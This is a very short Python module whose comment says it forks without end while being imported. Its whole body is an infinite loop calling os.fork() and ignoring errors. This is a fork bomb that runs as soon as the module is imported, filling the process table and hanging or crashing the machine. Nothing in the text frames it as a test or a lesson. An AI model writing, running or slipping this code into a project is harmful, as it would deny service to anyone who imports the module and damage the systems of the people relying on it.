# Forks without end while being imported.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
